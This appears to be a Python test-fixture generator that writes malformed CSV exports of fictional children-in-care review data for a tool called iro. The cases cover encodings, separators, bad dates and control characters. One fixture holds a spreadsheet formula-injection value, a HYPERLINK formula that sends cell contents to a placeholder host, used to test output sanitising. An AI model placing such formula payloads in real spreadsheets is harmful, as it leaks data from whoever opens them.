"""Write the bad-export corpus: one folder per case (an export folder), from one small
fictional base (every name, ID and phone number is made up; phones are Ofcom drama
numbers). Repeatable byte for byte: ``python tests/bad_exports/make_cases.py``.

What each case is and what iro must do with it is in ``cases.toml``, next to this file;
``tests/test_bad_exports.py`` runs them. The two very large cases (a 10 MB cell, a 1 MB
line) are not stored: the test makes them from the base (``make`` in cases.toml).
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

BASE: dict[str, list[list[str]]] = {
    "children.csv": [
        ["Person ID", "Forename", "Surname", "Date of Birth", "Gender", "Ethnicity",
         "Period Start", "Period End", "Allocated IRO", "Team", "Short Breaks"],
        ["0101", "Amara", "Okafor", "01/06/2015", "Female", "BAFR", "01/01/2026", "",
         "Tom Reid", "CiC 1", "N"],
        ["0102", "Zoë", "O’Neill", "12/02/2012", "Female", "WIRI", "02/11/2026", "",
         "Hannah Price", "CiC 2", "N"],
        ["0103", "Tomasz", "Nowak", "30/09/2010", "Male", "WOTH", "16/03/2025", "",
         "Tom Reid", "CiC 1", "N"],
    ],
    "reviews.csv": [
        ["Review ID", "Person ID", "Review Type", "Review Date", "Status", "Chair",
         "Participation Code", "Next Review Date", "Child's Views"],
        ["R1", "0101", "CLA Review", "28/01/2026", "Held", "Tom Reid", "PN1", "28/04/2026",
         "Amara wants to see her brother more."],
        ["R2", "0103", "CLA Review", "10/04/2025", "Held", "Tom Reid", "PN3", "10/07/2025", ""],
        ["R3", "0103", "CLA Review", "09/07/2025", "Held", "Tom Reid", "PN2", "09/01/2026", ""],
        ["R4", "0103", "CLA Review", "08/01/2026", "Held", "Tom Reid", "PN7", "08/07/2026", ""],
        ["R5", "0102", "CLA Review", "27/11/2026", "Scheduled", "Hannah Price", "", "", ""],
    ],
    "recommendations.csv": [
        ["Review ID", "Person ID", "Recommendation No", "Recommendation", "Responsible",
         "Target Date"],
        ["R1", "0101", "1", "Sam Patel (social worker) will arrange for Amara to see her "
         "brother every two weeks, starting by 01/03/2026.", "Sam Patel (social worker)",
         "01/03/2026"],
        ["R1", "0101", "2", "Amara's carers will help her join a swimming club by 30/04/2026.",
         "Foster carers", "30/04/2026"],
        ["R4", "0103", "1", "Social worker to continue to monitor.", "Social worker", ""],
    ],
    "cp_plans.csv": [
        ["Person ID", "Strategy Discussion Date", "Plan Start", "Plan End", "Chair",
         "Forename", "Surname", "Date of Birth", "Team"],
        ["0201", "03/11/2025", "24/11/2025", "", "Hannah Price", "Jayden", "Clarke",
         "14/03/2019", "Family Support"],
        ["0101", "05/01/2023", "26/01/2023", "10/07/2024", "Hannah Price", "Amara", "Okafor",
         "01/06/2015", "Family Support"],
    ],
    "iros.csv": [
        ["Name", "Email", "Phone", "FTE", "Team"],
        ["Tom Reid", "tom.reid@example.gov.uk", "01632 960100", "1.0", "IRO North"],
        ["Hannah Price", "hannah.price@example.gov.uk", "01632 960101", "0.8", "IRO South"],
    ],
}  # fmt: skip


def cell(text: str, sep: str = ",") -> str:
    if any(ch in text for ch in (sep, '"', "\n", "\r")):
        return '"' + text.replace('"', '""') + '"'
    return text


def to_text(rows: list[list[str]], sep: str = ",", end: str = "\r\n") -> str:
    return "".join(sep.join(cell(c, sep) for c in row) + end for row in rows)


def table(name: str) -> list[list[str]]:
    return [list(row) for row in BASE[name]]


Files = dict[str, "bytes | None"]  # None: a folder of that name


EXTRACT = b"""# Fictional data for iro's tests: every name and ID was made up.
extract_date = 2026-11-20
fictional = true
"""


def base() -> Files:
    files: Files = {name: to_text(rows).encode("utf-8") for name, rows in BASE.items()}
    files["extract.toml"] = EXTRACT  # the day it was taken, as a real extract says
    return files


def with_rows(name: str, change: Callable[[list[list[str]]], None], encoding="utf-8") -> Files:
    files = base()
    rows = table(name)
    change(rows)
    files[name] = to_text(rows).encode(encoding)
    return files


def with_text(name: str, change: Callable[[str], str]) -> Files:
    files = base()
    files[name] = change(files[name].decode("utf-8")).encode("utf-8")
    return files


def with_bytes(name: str, data: bytes) -> Files:
    files = base()
    files[name] = data
    return files


def setter(row: int, column: int, value: str) -> Callable[[list[list[str]]], None]:
    def change(rows: list[list[str]]) -> None:
        rows[row][column] = value

    return change


def appender(*new: list[str]) -> Callable[[list[list[str]]], None]:
    def change(rows: list[list[str]]) -> None:
        rows.extend(list(r) for r in new)

    return change


CHILDREN_TEXT = to_text(BASE["children.csv"])
REVIEWS_TEXT = to_text(BASE["reviews.csv"])


def cases() -> dict[str, Files]:
    c: dict[str, Files] = {}
    c["base"] = base()
    # encodings
    c["utf16le_bom"] = with_bytes("children.csv", CHILDREN_TEXT.encode("utf-16"))
    c["utf16be_bom"] = with_bytes("children.csv", b"\xfe\xff" + CHILDREN_TEXT.encode("utf-16-be"))
    c["utf16le_no_bom"] = with_bytes("children.csv", CHILDREN_TEXT.encode("utf-16-le"))
    c["utf16be_no_bom"] = with_bytes("children.csv", CHILDREN_TEXT.encode("utf-16-be"))
    c["utf8_bom"] = with_bytes("children.csv", b"\xef\xbb\xbf" + CHILDREN_TEXT.encode())
    c["windows1252"] = with_bytes("children.csv", CHILDREN_TEXT.encode("cp1252"))
    c["windows1252_unused_byte"] = with_bytes(
        "children.csv", CHILDREN_TEXT.encode("cp1252").replace(b"Tomasz", b"Tomasz\x81")
    )
    c["utf16le_bom_reviews_tab"] = with_bytes(
        "reviews.csv", to_text(BASE["reviews.csv"], "\t").encode("utf-16")
    )
    # separators and line endings
    c["tab_separated"] = with_bytes("children.csv", to_text(BASE["children.csv"], "\t").encode())
    c["semicolon_separated"] = with_bytes(
        "children.csv", to_text(BASE["children.csv"], ";").encode()
    )
    c["cr_only_endings"] = with_bytes("children.csv", CHILDREN_TEXT.replace("\r\n", "\r").encode())
    c["lf_endings"] = with_bytes("children.csv", CHILDREN_TEXT.replace("\r\n", "\n").encode())
    c["mixed_endings"] = with_bytes(
        "reviews.csv", REVIEWS_TEXT.replace("\r\n", "\n", 2).replace("\r\n", "\r", 1).encode()
    )
    c["no_final_newline"] = with_bytes("children.csv", CHILDREN_TEXT.rstrip("\r\n").encode())
    # bytes and fields
    c["nul_in_name"] = with_rows("children.csv", setter(1, 1, "Am\x00ara"))
    c["nul_bytes_in_blank_cells"] = with_text(
        "reviews.csv", lambda t: t.replace(",,,\r\n", ",\x00,\x00,\x00\r\n")
    )
    c["too_many_fields"] = with_text(
        "children.csv", lambda t: t.replace("CiC 2,N\r\n", "CiC 2,N,extra,cells\r\n")
    )
    c["too_few_fields"] = with_text(
        "children.csv", lambda t: t.replace(",Tom Reid,CiC 1,N\r\n0102", "\r\n0102")
    )
    c["excel_trailing_commas"] = with_text("children.csv", lambda t: t.replace("\r\n", ",,,\r\n"))
    c["duplicate_header_column"] = with_text(
        "children.csv", lambda t: t.replace("Gender", "Forename", 1)
    )
    c["blank_rows_in_the_middle"] = with_text(
        "reviews.csv", lambda t: t.replace("\r\nR3", "\r\n,,,,,,,,\r\n\r\nR3")
    )
    c["blank_lines_before_header"] = with_text("children.csv", lambda t: "\r\n,,,\r\n" + t)
    c["header_case_and_spaces"] = with_text(
        "children.csv",
        lambda t: t.replace("Person ID", "  PERSON   id ").replace(
            "Date of Birth", "date of birth"
        ),
    )
    c["spaces_around_cells"] = with_text(
        "children.csv", lambda t: t.replace("0101,Amara", " 0101 , Amara ")
    )
    c["empty_file"] = with_bytes("children.csv", b"")
    c["header_only"] = with_bytes(
        "recommendations.csv", to_text(BASE["recommendations.csv"][:1]).encode()
    )
    c["required_column_missing"] = with_text(
        "children.csv", lambda t: t.replace("Period Start", "Start of Care")
    )
    c["unknown_columns"] = with_text(
        "iros.csv", lambda t: t.replace("Team\r\n", "Team,Line Manager\r\n")
    )
    c["exact_duplicate_rows"] = with_rows("reviews.csv", appender(BASE["reviews.csv"][2]))
    c["not_a_csv_at_all"] = with_bytes(
        "children.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256))
    )
    c["stray_quote_in_cell"] = with_text(
        "reviews.csv", lambda t: t.replace("Amara wants", 'Amara says 5"11 wants')
    )
    # names and IDs
    c["rtl_marks_and_emoji"] = with_rows(
        "children.csv", setter(1, 1, "\u200fأمارة\u200e 🌟"), encoding="utf-8"
    )
    c["leading_zero_ids_kept"] = with_rows("reviews.csv", setter(1, 1, "101"))
    c["id_with_spaces"] = with_rows("reviews.csv", setter(1, 1, " 0101 "))
    # dates
    c["impossible_date"] = with_rows("children.csv", setter(1, 3, "31/02/2015"))
    c["two_digit_year"] = with_rows("children.csv", setter(1, 3, "01/06/15"))
    c["us_date"] = with_rows("children.csv", setter(1, 3, "06/30/2015"))
    c["iso_dates_and_times"] = with_rows(
        "reviews.csv",
        lambda rows: (
            rows[1].__setitem__(3, "2026-01-28"),
            rows[2].__setitem__(3, "10/04/2025 14:30"),
        ),
    )
    c["review_type_alias"] = with_rows("reviews.csv", setter(2, 2, "LAC Review"))
    # formula-looking cells (csv and xlsx output of every command)
    c["formula_equals"] = with_rows("children.csv", setter(1, 9, "=1+2"))
    c["formula_plus"] = with_rows("children.csv", setter(1, 1, "+Amara"))
    c["formula_minus"] = with_rows("reviews.csv", setter(1, 5, "-Tom Reid"))
    c["formula_at"] = with_rows("children.csv", setter(1, 9, "@SUM(A1)"))
    c["formula_hyperlink"] = with_rows(
        "recommendations.csv",
        setter(3, 3, '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'),
    )
    c["formula_in_cp_plans"] = with_rows("cp_plans.csv", setter(1, 5, "=Jayden()"))
    c["formula_tab"] = with_rows("children.csv", setter(1, 9, "\t=1+2"))
    c["formula_cr"] = with_rows("children.csv", setter(1, 9, "\r=1+2"))
    # 1. control characters
    c["control_esc_in_team"] = with_rows("children.csv", setter(1, 9, "CiC\x1b1"))
    c["control_vt_in_recommendation"] = with_rows(
        "recommendations.csv", setter(2, 3, "Amara's carers\x0bwill help her join a club.")
    )
    c["control_ff_in_chair"] = with_rows("reviews.csv", setter(1, 5, "Tom\x0cReid"))
    # 2. free text where a code, flag or number belongs
    c["sentence_in_status"] = with_rows(
        "reviews.csv", setter(1, 4, "Amara Okafor said she was scared")
    )
    c["name_in_participation_code"] = with_rows("reviews.csv", setter(1, 6, "Amara"))
    c["name_in_short_breaks"] = with_rows("children.csv", setter(1, 10, "Amara Okafor"))
    c["text_in_fte"] = with_rows("iros.csv", setter(1, 3, "Tom Reid part time"))
    c["misspelt_code"] = with_rows("reviews.csv", setter(1, 4, "Hled"))
    # 3. summary lines
    c["summary_line"] = with_rows("children.csv", appender(["Total rows: 3"]))
    c["summary_line_wrong_count"] = with_rows("children.csv", appender(["Total rows: 30"]))
    c["summary_like_recommendation"] = with_rows(
        "recommendations.csv", appender(["", "", "", "Records of family time to be kept", "", ""])
    )
    c["summary_in_other_column"] = with_rows(
        "children.csv", appender(["", "", "Total 3", "", "", "", "", "", "", "", ""])
    )
    # 4. participation codes
    c["pn_code_with_space"] = with_rows("reviews.csv", setter(1, 6, "PN 1"))
    c["pn_code_with_hyphen"] = with_rows("reviews.csv", setter(2, 6, "PN-3"))
    c["pn_code_lower_case"] = with_rows("reviews.csv", setter(3, 6, "pn 2"))
    c["pn_code_with_description"] = with_rows(
        "reviews.csv", setter(4, 6, "PN7 - did not take part")
    )
    # 5. sense
    c["birth_in_1900"] = with_rows("children.csv", setter(1, 3, "01/06/1900"))
    c["held_in_2100"] = with_rows("reviews.csv", setter(4, 3, "08/01/2100"))
    c["held_after_as_at"] = with_rows("reviews.csv", setter(4, 3, "25/11/2026"))
    c["review_before_birth"] = with_rows("reviews.csv", setter(2, 3, "10/04/2009"))
    c["held_outside_care"] = with_rows("reviews.csv", setter(2, 3, "10/01/2025"))
    c["review_id_twice"] = with_rows("reviews.csv", setter(3, 0, "R2"))
    c["two_dates_of_birth"] = with_rows(
        "children.csv",
        appender(["0103", "Tomasz", "Nowak", "30/10/2010", "Male", "WOTH", "01/01/2024",
                  "01/02/2024", "Tom Reid", "CiC 1", "N"]),
    )  # fmt: skip
    # 6. messages
    c["unterminated_quote"] = with_text(
        "children.csv", lambda t: t.replace("0102,Zoë", '0102,"Zoë')
    )
    c["folder_named_like_export"] = {**base(), "children.csv": None}  # a folder of that name
    c["cell_10mb"] = base()  # the test makes the cell (cases.toml: make)
    c["line_1mb"] = base()  # likewise
    c["xlsx_input"] = base()  # children.csv becomes children.xlsx (made by the test)
    c["xlsx_input_formula"] = base()  # likewise, with a real formula in a cell
    c["lint_file_many_errors"] = with_rows(
        "recommendations.csv", lambda rows: [row.__setitem__(0, "") for row in rows[1:]]
    )
    return c


def write() -> None:
    for path in HERE.iterdir():
        if path.is_dir() and not path.name.startswith(("_", ".")):
            shutil.rmtree(path)
    for name, files in cases().items():
        folder = HERE / name
        folder.mkdir()
        for file_name, data in files.items():
            if data is None:
                (folder / file_name).mkdir()
                (folder / file_name / "placed-here-by-mistake.txt").write_text("not an export\n")
            else:
                (folder / file_name).write_bytes(data)


if __name__ == "__main__":
    write()
